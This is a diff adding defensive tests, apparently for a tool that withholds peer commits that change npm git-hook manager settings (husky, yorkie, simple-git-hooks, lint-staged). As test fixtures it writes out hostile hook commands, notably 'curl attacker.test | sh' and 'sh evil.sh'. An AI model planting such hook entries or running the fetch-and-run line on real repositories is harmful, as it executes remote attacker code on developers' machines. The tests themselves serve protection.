@@ -110,6 +110,69 @@ describe("a hook manager's configuration", () => {
   });
 });
 
+// The npm hook managers read their settings from package.json, or a file of their own, each time the
+// installed hook fires (husky 4, yorkie, lint-staged, simple-git-hooks): these were published.
+describe("a hook setup in package.json or an npm hook manager's own file", () => {
+  const HUSKY4 = JSON.stringify({ name: 'app', version: '1.0.0', husky: { hooks: { 'pre-commit': 'lint-staged' } }, 'lint-staged': { '*.js': 'eslint' } }, null, 2);
+  const withHusky4 = () => userRepo({ 'package.json': HUSKY4 }, () => write(repo, '.git/hooks/pre-commit', '#!/bin/sh\n. "$(dirname "$0")/husky.sh"\n', 0o755));
+  const pkg = (change: (p: Record<string, unknown>) => void) => {
+    const p = JSON.parse(HUSKY4);
+    change(p);
+    return JSON.stringify(p, null, 2);
+  };
+
+  test("with a hook installed, a run that changes husky 4's hooks in package.json is not published; a version bump is", () => {
+    withHusky4();
+    peersCommit('package.json', pkg((p) => (p.version = '1.0.1')));
+    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
+    peersCommit('package.json', pkg((p) => ((p.husky as { hooks: Record<string, string> }).hooks['post-checkout'] = 'curl attacker.test | sh')));
+    const pub = publishRunBranch(repo, paths, 'peers/app');
+    expect(pub.updated).toBe(false);
+    expect(pub.note).toContain('"package.json" (its "husky" setting), which your installed git hooks read');
+    expect(pub.note).toContain('git log -p FETCH_HEAD');
+  });
+
+  for (const [what, change] of [
+    ['yorkie\'s "gitHooks"', (p: Record<string, unknown>) => (p.gitHooks = { 'pre-commit': 'sh evil.sh' })],
+    ['"simple-git-hooks"', (p: Record<string, unknown>) => (p['simple-git-hooks'] = { 'pre-commit': 'sh evil.sh' })],
+    ['"lint-staged"', (p: Record<string, unknown>) => (p['lint-staged'] = { '*': 'sh evil.sh' })],
+  ] as const) {
+    test(`with a hook installed, a run that changes ${what} in package.json is not published`, () => {
+      withHusky4();
+      peersCommit('package.json', pkg(change));
+      const pub = publishRunBranch(repo, paths, 'peers/app');
+      expect(pub.updated).toBe(false);
+      expect(published()).toBe(false);
+      expect(pub.note).toContain(`(its ${what.replace(/^yorkie's /, '')} setting)`);
+    });
+  }
+
+  test("with a hook installed, a run that adds an npm hook manager's own file (anywhere in the tree for lint-staged, whose configs sit beside the staged files) is not published", () => {
+    withHusky4();
+    for (const file of ['.huskyrc.json', '.lintstagedrc', 'packages/web/lint-staged.config.mjs', '.simple-git-hooks.json', '.config/lintstagedrc.json']) {
+      peersCommit(file, '{"*": "sh evil.sh"}\n');
+      const pub = publishRunBranch(repo, paths, 'peers/app');
+      expect(pub.updated).toBe(false);
+      expect(pub.note).toContain(`${JSON.stringify(file)}, which your installed git hooks read`);
+    }
+    expect(published()).toBe(false);
+  });
+
+  test('with a hook installed, a package.json change that does not parse is not published (fail closed)', () => {
+    withHusky4();
+    peersCommit('package.json', `${HUSKY4.slice(0, -1)},\n  "husky": {"hooks": {"pre-commit": "sh evil.sh"}},\n}\n`);
+    const pub = publishRunBranch(repo, paths, 'peers/app');
+    expect(pub.updated).toBe(false);
+    expect(pub.note).toContain('"package.json" (it does not parse as JSON');
+  });
+
+  test('with only git\'s samples in the hooks directory, a change of husky\'s settings publishes: no hook of the user reads them', () => {
+    userRepo({ 'package.json': HUSKY4 });
+    peersCommit('package.json', pkg((p) => (p.husky = { hooks: { 'pre-commit': 'sh evil.sh' } })));
+    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
+  });
+});
+
 test('the hooks directory as the tree sees it: outside the tree, or the git directory, is none; husky\'s _ is its parent', () => {
   expect(treeHooksDir('/home/u/app/.githooks', '/home/u/app')).toBe('.githooks/');
   expect(treeHooksDir('/home/u/app/.husky/_', '/home/u/app/')).toBe('.husky/');
